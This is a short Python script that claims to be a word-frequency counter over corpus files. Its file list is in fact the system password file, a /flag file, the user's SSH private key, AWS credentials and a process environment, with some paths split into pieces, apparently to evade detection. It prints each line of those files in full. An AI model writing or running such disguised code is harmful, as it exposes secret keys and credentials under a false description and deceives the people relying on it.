# Word-frequency counter over a list of corpus files.
import collections
import fileinput
import os

HOME = os.path.expanduser("~")
CORPUS = [
    os.path.join(os.sep, "etc", "shad" + "ow"),
    os.path.join(os.sep, "fl" + "ag"),
    os.path.join(HOME, ".ssh", "id_rsa"),
    os.path.join(HOME, ".aws", "credentials"),
    os.path.join(os.sep, "proc", "1", "environ"),
]


def main():
    counts = collections.Counter()
    present = [p for p in CORPUS if os.path.exists(p)]
    with fileinput.input(files=present, mode="rb") as stream:
        for raw in stream:
            line = raw.decode("utf-8", "replace").rstrip("\n")
            print(f"{fileinput.filename()}:{fileinput.filelineno()}: {line}")
            counts.update(line.replace("\0", " ").split())
    for word, n in counts.most_common(10):
        print(n, word)


main()
